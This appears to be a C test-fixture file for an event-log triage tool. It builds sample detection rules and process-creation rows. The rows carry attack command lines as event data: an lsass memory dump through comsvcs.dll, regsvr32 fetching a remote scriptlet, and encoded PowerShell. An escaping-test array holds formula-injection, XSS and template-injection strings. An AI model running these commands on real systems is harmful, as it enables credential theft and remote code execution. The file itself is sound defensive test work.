/* out_sample.c - rows made by hand. */
#include "out_sample.h"

#include <inttypes.h>

#include "base/filetime.h"
#include "base/limits.h"
#include "base/mem.h"

#define T0 UINT64_C(132264942721234567) /* 2020-02-18T10:11:12.1234567Z */

static const struct slice hostile[SAMPLE_HOSTILE] = {
    SLICE_INIT("=cmd|' /C calc'!A0"),
    SLICE_INIT("+1"),
    SLICE_INIT("-2+3"),
    SLICE_INIT("@SUM(A1:A9)"),
    SLICE_INIT("\t=1"),
    SLICE_INIT("\r=1"),
    SLICE_INIT("say \"hi\", then go"),
    SLICE_INIT("one\r\ntwo\nthree"),
    SLICE_INIT("nul\0inside"),
    SLICE_INIT("\x01\x02\x1b[31mred\x1f\x7f"),
    SLICE_INIT("bad \xff\xfe\xc0\x80 utf-8 \xe2\x82"),
    SLICE_INIT("line\xe2\x80\xa8separator\xe2\x80\xa9paragraph"),
    SLICE_INIT("</script><script>document.title='hacked'</script>"),
    SLICE_INIT("<img src=x onerror=\"document.title='hacked'\">"),
    SLICE_INIT("<!-- <script> ]]> -->"),
    SLICE_INIT("surrogate \xed\xa0\x80 alone"),
    SLICE_INIT("c1 \xc2\x85\xc2\x9b controls"),
    SLICE_INIT("javascript:document.title='hacked'"),
    SLICE_INIT("\xf0\x9f\x92\xa5 astral \xc3\xa4\xc3\xb6"),
    SLICE_INIT("' onmouseover='document.title=1"),
    SLICE_INIT("&lt;b&gt; &amp; &#x41;"),
    SLICE_INIT("C:\\x\\n\\u0041\\"),
    SLICE_INIT("\xef\xbb\xbf"
               "bom first"),
    SLICE_INIT("; | = : -- {{7*7}} ${7*7}"),
};

struct slice sample_hostile_text(size_t i)
{
    return hostile[i % SAMPLE_HOSTILE];
}

static struct slices list(struct arena *a, const char *const *v, size_t n)
{
    struct slices s = { arena_zalloc(a, n ? n : 1, sizeof *s.v), n };
    for (size_t i = 0; i < n; i++)
        s.v[i] = slice_str(v[i]);
    return s;
}
#define LIST(a, ...)                                                                               \
    list((a), (const char *const[]){ __VA_ARGS__ },                                                \
         sizeof((const char *const[]){ __VA_ARGS__ }) / sizeof(const char *))

static struct rule *new_rule(struct sample *s, const char *title, const char *id,
                             enum rule_level level)
{
    struct rule *r = arena_zalloc(&s->arena, 1, sizeof *r);
    r->title = slice_str(title);
    r->id = slice_str(id);
    r->level = level;
    r->has_level = true;
    r->status = STATUS_TEST;
    r->author = SLICE("evtriage tests");
    r->product = SLICE("windows");
    r->category = SLICE("process_creation");
    r->file = SLICE("rules/sample.yml");
    r->document = (uint32_t)s->rules.n;
    r->index = (uint32_t)s->rules.n;
    s->rules.rule[s->rules.n++] = r;
    return r;
}

static void sample_rules(struct sample *s)
{
    struct arena *a = &s->arena;
    s->rules.rule = arena_zalloc(a, SAMPLE_RULES + SAMPLE_HOSTILE, sizeof *s->rules.rule);
    struct rule *r = new_rule(s, "Process memory written by comsvcs.dll through rundll32",
                              "0d3f6a8e-1111-4a6c-9a51-000000000001", LEVEL_HIGH);
    r->description = SLICE("rundll32 calls the MiniDump export of comsvcs.dll, which writes the "
                           "memory of a process, usually lsass, to a file.");
    r->tags =
        LIST(a, "attack.credential-access", "attack.t1003.001", "attack.s0002", "car.2013-05-009");
    r->references = LIST(a, "https://example.org/comsvcs", "https://example.org/lsass-dumps");
    r->falsepositives = LIST(a, "Crash collection by an administrator");
    r = new_rule(s, "PowerShell started by a program other than Explorer",
                 "0d3f6a8e-1111-4a6c-9a51-000000000002", LEVEL_LOW);
    r->description = SLICE("An interactive shell is usually opened from the desktop.");
    r->tags = LIST(a, "attack.execution", "attack.t1086");
    r->falsepositives = LIST(a, "Management software", "Login scripts");
    r = new_rule(s, "Event log cleared", "0d3f6a8e-1111-4a6c-9a51-000000000003", LEVEL_CRITICAL);
    r->category = SLICE_ABSENT;
    r->service = SLICE("security");
    r->description = SLICE("The Security log was cleared: events before this one are gone.");
    r->tags = LIST(a, "attack.defense_evasion", "attack.t1070.001", "car.2016-04-002");
    r = new_rule(s, "Service installed from a temporary folder",
                 "0d3f6a8e-1111-4a6c-9a51-000000000004", LEVEL_MEDIUM);
    r->tags = LIST(a, "attack.persistence", "attack.privilege-escalation", "attack.t1543.003");
    r->category = SLICE_ABSENT;
    r->service = SLICE("powershell"); /* a log that is not there */
    r->description = SLICE("Services run from where programs are installed.");
    r = new_rule(s, "Host discovery commands", "0d3f6a8e-1111-4a6c-9a51-000000000005",
                 LEVEL_INFORMATIONAL);
    r->tags = LIST(a, "attack.discovery", "attack.t1082", "attack.t1033", "car.2016-03-001");
    r->description = SLICE("whoami, systeminfo and the like.");
    r = new_rule(s, "Regsvr32 runs a scriptlet from the network",
                 "0d3f6a8e-1111-4a6c-9a51-000000000006", LEVEL_HIGH);
    r->tags = LIST(a, "attack.stealth", "attack.t1218.010", "attack.g0050");
    r->description = SLICE("regsvr32 loads scrobj.dll and is given a URL.");
}

static void sample_summary(struct sample *s)
{
    struct summary *m = &s->sum;
    struct arena *a = &s->arena;
    m->rules = &s->rules;
    m->nfile = 4;
    m->file = arena_zalloc(a, m->nfile, sizeof *m->file);
    static const char *const path[] = { "case/WS01/Security.evtx",
                                        "case/WS01/Microsoft-Windows-Sysmon%4Operational.evtx",
                                        "case/DC01/Security.evtx", "case/DC01/broken.evtx" };
    for (size_t i = 0; i < m->nfile; i++) {
        struct summary_file *f = &m->file[i];
        f->path = slice_str(path[i]);
        f->size = 1118208 * (i + 1);
        f->has_sha256 = true;
        memset(f->sha256, (int)(0x11 * (i + 1)), 32);
        f->counts.records = f->counts.events = 4000 * (i + 1);
        f->counts.chunks = 17 * (i + 1);
        f->counts.bytes = f->size;
        f->fate = FILE_READ;
    }
    m->file[2].counts.events -= 903;
    m->file[2].counts.skipped = 900;
    m->file[2].counts.unreadable = 3;
    m->file[2].counts.finding[FINDING_CHUNK_CHECKSUM] = 1;
    m->file[2].counts.finding[FINDING_RECORD_UNREADABLE] = 3;
    m->file[2].nfinding = 1;
    m->file[2].finding = arena_zalloc(a, 1, sizeof *m->file[2].finding);
    m->file[2].finding[0].kind = FINDING_CHUNK_CHECKSUM;
    m->file[2].finding[0].offset = 69632;
    snprintf(m->file[2].finding[0].text, sizeof m->file[2].finding[0].text,
             "the checksum of the chunk's records is wrong");
    m->file[3].fate = FILE_UNREADABLE;
    m->file[3].reason = SLICE("Permission denied");
    memset(&m->file[3].counts, 0, sizeof m->file[3].counts);
    m->file[3].has_sha256 = false;
    for (size_t i = 0; i < m->nfile; i++) {
        m->total.records += m->file[i].counts.records;
        m->total.events += m->file[i].counts.events;
        m->total.skipped += m->file[i].counts.skipped;
        m->total.unreadable += m->file[i].counts.unreadable;
        m->total.chunks += m->file[i].counts.chunks;
        m->total.bytes += m->file[i].counts.bytes;
        for (size_t k = 0; k < FINDING_KINDS; k++)
            m->total.finding[k] += m->file[i].counts.finding[k];
    }
    m->nchannel = 3;
    m->channel = arena_zalloc(a, m->nchannel, sizeof *m->channel);
    m->channel[0] = (struct summary_channel){ .channel = SLICE("Security"), .events = 15097 };
    m->channel[1] =
        (struct summary_channel){ .channel = SLICE("Microsoft-Windows-Sysmon/Operational"),
                                  .events = 8000 };
    m->channel[2] = (struct summary_channel){ .channel = SLICE("System"), .events = 1 };
    m->nhost = 2;
    m->host = arena_zalloc(a, m->nhost, sizeof *m->host);
    m->host[0] = (struct summary_host){ .computer = SLICE("DC01.corp.example"),
                                        .sysmon_1 = 0,
                                        .s4688 = 812,
                                        .s4688_with_command_line = 0,
                                        .first = T0,
                                        .last = T0 + 999 };
    m->host[1] = (struct summary_host){ .computer = SLICE("WS01.corp.example"),
                                        .sysmon_1 = 2210,
                                        .s4688 = 1400,
                                        .s4688_with_command_line = 1396,
                                        .first = T0,
                                        .last = T0 + 99 };
    m->first = T0 - 86400 * FILETIME_SECOND;
    m->last = T0 + 86400 * 3 * FILETIME_SECOND;
    m->hidden_level = 41;
    m->duplicates = 7;
    m->undecided = 12;
    s->rules.refused[REFUSAL_UNSUPPORTED] = 2;
    s->rules.nfile = 1;
    s->rules.file = arena_zalloc(a, 1, sizeof *s->rules.file);
    s->rules.file[0] = (struct rule_file){ SLICE("rules/sample.yml"), { 0xab }, 6, 2 };
    s->rules.nmessage = 1;
    s->rules.message = arena_zalloc(a, 1, sizeof *s->rules.message);
    s->rules.message[0] = (struct rule_message){ MESSAGE_ERROR, SLICE("rules/sample.yml"), 12, 3,
                                                 SLICE("correlation rules are not supported") };
    struct rule_counts *count = arena_zalloc(a, SAMPLE_RULES + SAMPLE_HOSTILE, sizeof *count);
    count[0].undecided = 12;
    m->rule_count = count;
}

void sample_init(struct sample *s)
{
    memset(s, 0, sizeof *s);
    arena_init(&s->arena, LIMIT_MIB(512));
    sample_rules(s);
    sample_summary(s);
}

void sample_release(struct sample *s)
{
    arena_release(&s->arena);
}

static void add_field(struct detection *d, uint8_t part, const char *name, struct slice text)
{
    d->field[d->nfield++] =
        (struct detection_field){ .name = slice_str(name), .text = text, .part = part };
}

static void set_matched(struct sample *s, struct detection *d, const char *field, struct slice text,
                        const char *pattern, const char *modifier)
{
    d->matched = arena_zalloc(&s->arena, 1, sizeof *d->matched);
    size_t at = slice_find(text, slice_str(pattern));
    d->nmatched = 1;
    d->matched[0] = (struct detection_matched){ .selection = SLICE("selection"),
                                                .field = slice_str(field),
                                                .modifiers = slice_str(modifier),
                                                .pattern = slice_str(pattern),
                                                .offset = at == SIZE_MAX ? 0 : at,
                                                .length = at == SIZE_MAX ? 0 : strlen(pattern) };
}

static void base_row(struct sample *s, size_t i, struct detection *d)
{
    memset(d, 0, sizeof *d);
    /* Bursts of work with nights between. */
    d->timestamp = T0 + (i * 37 + (i * i % 41)) * FILETIME_SECOND * 3 +
                   i / 40 * 5 * 3600 * FILETIME_SECOND + i * 1234567 % FILETIME_SECOND;
    d->computer = i % 5 == 0 ? SLICE("DC01.corp.example") : SLICE("WS01.corp.example");
    d->has_event_id = d->has_record_id = true;
    d->record_id = 1000 + i;
    d->source_file = i % 5 == 0 ? SLICE("case/DC01/Security.evtx")
                                : SLICE("case/WS01/Microsoft-Windows-Sysmon%4Operational.evtx");
    d->place.offset = 4096 + 512 + i * 1200;
    d->place.chunk = d->place.offset / 65536;
    d->place.record_number = 1000 + i;
    d->field = arena_zalloc(&s->arena, 32, sizeof *d->field);
    if (i % 11 == 3) {
        static struct slice also[] = { SLICE_INIT("case/VSS1/Security.evtx@8704") };
        d->also_in = (struct slices){ also, 1 };
    }
}

static void process_row(struct sample *s, size_t i, struct detection *d, const char *image,
                        const char *command)
{
    bool sysmon = i % 5 != 0;
    d->channel = sysmon ? SLICE("Microsoft-Windows-Sysmon/Operational") : SLICE("Security");
    d->provider =
        sysmon ? SLICE("Microsoft-Windows-Sysmon") : SLICE("Microsoft-Windows-Security-Auditing");
    d->event_id = sysmon ? 1 : 4688;
    struct process *p = &d->process;
    p->user = i % 3 ? SLICE("CORP\\j.doe") : SLICE("NT AUTHORITY\\SYSTEM");
    p->image = slice_str(image);
    p->command_line = slice_str(command);
    p->logon_id = SLICE("0x3e7");
    p->id = arena_printf(&s->arena, "%zu", 4000 + i * 4 % 9000);
    p->parent_id = SLICE("612");
    p->parent_image = SLICE("C:\\Windows\\System32\\services.exe");
    d->message = arena_printf(&s->arena, "Process created: %s", image);
    add_field(d, EVENT_SYSTEM, "Provider_Name", d->provider);
    add_field(d, EVENT_SYSTEM, "EventID", sysmon ? SLICE("1") : SLICE("4688"));
    add_field(d, EVENT_SYSTEM, "Computer", d->computer);
    add_field(d, EVENT_DATA, sysmon ? "Image" : "NewProcessName", p->image);
    add_field(d, EVENT_DATA, sysmon ? "ProcessId" : "NewProcessId", p->id);
    add_field(d, EVENT_DATA, "CommandLine", p->command_line);
    add_field(d, EVENT_DATA, sysmon ? "ParentImage" : "ParentProcessName", p->parent_image);
    if (sysmon) {
        add_field(d, EVENT_DATA, "User", p->user);
        add_field(d, EVENT_DATA, "IntegrityLevel", SLICE("High"));
        add_field(d, EVENT_DATA, "Hashes",
                  SLICE("MD5=0CC175B9C0F1B6A831C399E269772661,IMPHASH="
                        "00000000000000000000000000000000"));
        add_field(d, EVENT_DATA, "CurrentDirectory", SLICE("C:\\Users\\j.doe\\"));
    } else {
        add_field(d, EVENT_DATA, "SubjectUserName", SLICE("j.doe"));
        add_field(d, EVENT_DATA, "SubjectDomainName", SLICE("CORP"));
        add_field(d, EVENT_DATA, "TokenElevationType", SLICE("%%1936"));
        d->field[d->nfield - 1].meaning = SLICE("full token");
        d->verdict = VERDICT_UNFILTERED;
        d->untested = arena_zalloc(&s->arena, 1, sizeof *d->untested);
        d->untested[0] = (struct untested){ SLICE("filter_parent"), SLICE("ParentCommandLine") };
        d->nuntested = 1;
    }
}

void sample_row(struct sample *s, size_t i, struct detection *d)
{
    static const struct {
        uint8_t rule;
        const char *image, *command, *pattern;
    } kind[] = {
        { 4, "C:\\Windows\\System32\\whoami.exe", "whoami /all", "whoami" },
        { 1, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
          "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\ProgramData\\update.ps1",
          "-NoProfile" },
        { 4, "C:\\Windows\\System32\\systeminfo.exe", "systeminfo", "systeminfo" },
        { 0, "C:\\Windows\\System32\\rundll32.exe",
          "rundll32.exe C:\\windows\\System32\\comsvcs.dll,#24 624 C:\\Windows\\Temp\\out.bin full",
          "comsvcs.dll,#24" },
        { 4, "C:\\Windows\\System32\\net.exe", "net group \"Domain Admins\" /domain", "net" },
        { 5, "C:\\Windows\\System32\\regsvr32.exe",
          "regsvr32.exe /s /n /u /i:http://198.51.100.7/a.sct scrobj.dll", "scrobj.dll" },
        { 1, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
          "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", "-enc" },
    };
    size_t k = (i * 7 + i / 9) % (sizeof kind / sizeof *kind);
    base_row(s, i, d);
    if (i % 23 == 22) {
        d->rule = s->rules.rule[2];
        d->channel = SLICE("Security");
        d->provider = SLICE("Microsoft-Windows-Eventlog");
        d->event_id = 1102;
        d->process.user = SLICE("CORP\\j.doe");
        d->message = SLICE("The Security log was cleared by CORP\\j.doe.");
        add_field(d, EVENT_SYSTEM, "EventID", SLICE("1102"));
        add_field(d, EVENT_USER_DATA, "SubjectUserName", SLICE("j.doe"));
        add_field(d, EVENT_USER_DATA, "SubjectDomainName", SLICE("CORP"));
        set_matched(s, d, "EventID", SLICE("1102"), "1102", "");
        return;
    }
    if (i % 17 == 16) {
        d->rule = s->rules.rule[3];
        d->channel = SLICE("System");
        d->provider = SLICE("Service Control Manager");
        d->event_id = 7045;
        d->message = SLICE("A service was installed: WinUpd, C:\\Windows\\Temp\\svc.exe.");
        add_field(d, EVENT_DATA, "ServiceName", SLICE("WinUpd"));
        add_field(d, EVENT_DATA, "ImagePath", SLICE("C:\\Windows\\Temp\\svc.exe"));
        add_field(d, EVENT_DATA, "Data", SLICE("first"));
        add_field(d, EVENT_DATA, "Data", SLICE("second"));
        set_matched(s, d, "ImagePath", SLICE("C:\\Windows\\Temp\\svc.exe"), "\\Temp\\", "contains");
        return;
    }
    d->rule = s->rules.rule[kind[k].rule];
    process_row(s, i, d, kind[k].image, kind[k].command);
    set_matched(s, d, "CommandLine", d->process.command_line, kind[k].pattern, "contains");
}

void sample_hostile(struct sample *s, size_t i, struct detection *d)
{
    struct slice t = sample_hostile_text(i);
    base_row(s, i, d);
    if (s->rules.n <= SAMPLE_RULES + i) {
        struct rule *r = new_rule(s, "", "", (enum rule_level)(i % 5));
        r->title = r->id = r->description = r->author = r->file = t;
        struct slice *v = arena_zalloc(&s->arena, 1, sizeof *v);
        *v = t;
        r->tags = r->references = r->falsepositives = (struct slices){ v, 1 };
    }
    d->rule = s->rules.rule[s->rules.n - 1];
    d->computer = d->channel = d->provider = d->message = d->source_file = t;
    struct process *p = &d->process;
    p->user = p->image = p->command_line = p->logon_id = p->id = t;
    p->parent_id = p->parent_image = p->parent_command_line = t;
    d->field[d->nfield++] = (struct detection_field){ t, t, t, EVENT_DATA };
    d->field[d->nfield++] = (struct detection_field){ SLICE("CommandLine"), t, .part = EVENT_DATA };
    d->field[d->nfield++] = (struct detection_field){ t, SLICE("twice"), .part = EVENT_DATA };
    d->matched = arena_zalloc(&s->arena, 1, sizeof *d->matched);
    d->matched[0] = (struct detection_matched){ t, SLICE("CommandLine"), t, t, 1, t.n, false };
    d->nmatched = 1;
    d->untested = arena_zalloc(&s->arena, 1, sizeof *d->untested);
    d->untested[0] = (struct untested){ t, t };
    d->nuntested = 1;
    struct slice *also = arena_zalloc(&s->arena, 1, sizeof *also);
    *also = t;
    d->also_in = (struct slices){ also, 1 };
    d->also_in_more = 3;
}
